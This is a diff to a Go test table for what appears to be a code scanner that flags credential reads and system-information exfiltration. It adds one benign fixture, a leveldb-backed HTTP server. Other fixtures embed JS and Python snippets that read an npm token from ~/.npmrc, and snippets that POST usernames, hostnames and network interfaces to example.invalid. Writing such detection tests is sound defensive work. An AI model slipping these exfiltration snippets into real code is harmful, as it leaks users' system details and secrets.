@@ -67,6 +67,8 @@ func TestRecallClasses(t *testing.T) {
 		{"js registry token sent as a header", map[string]string{"lib/x.js": "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nconst token = /_authToken=(.*)/.exec(rc)[1];\nfetch(registry + '/acme/latest', { headers: { authorization: 'Bearer ' + token } });\n"}, "credential-read", quiet, record.Low},
 		{"python public key uploaded", map[string]string{"acme/keys.py": "import os, requests\n\ndef add_key(api, tok):\n    pub = open(os.path.expanduser('~/.ssh/id_ed25519.pub')).read()\n    return requests.post(api + '/user/keys', json={'key': pub}, auth=('me', tok))\n"}, "credential-read", quiet, record.Low},
 
+		{"js leveldb-backed server answers a request", map[string]string{"lib/x.js": "const db = level(path.join(dir, 'leveldb'));\nhttp.createServer((req, res) => { db.get(req.url, (err, v) => res.end(v)); }).listen(8080);\n"}, "credential-read", quiet, record.Low},
+
 		// sysinfo-exfil in other languages
 		{"js user and host posted", map[string]string{"lib/x.js": "const os = require('os');\nconst info = { u: os.userInfo().username, h: os.hostname(), n: os.networkInterfaces() };\naxios.post('https://example.invalid/i', info);\n"}, "sysinfo-exfil", record.Medium, 0},
 		{"js survey over several lines posted", map[string]string{"lib/x.js": "const os = require('os');\nconst survey = {\n  sys: {\n    user: os.userInfo().username,\n    host: os.hostname(),\n  },\n  when: Date.now(),\n};\nfetch('https://example.invalid/s', { method: 'POST', body: JSON.stringify(survey) });\n"}, "sysinfo-exfil", record.Medium, 0},
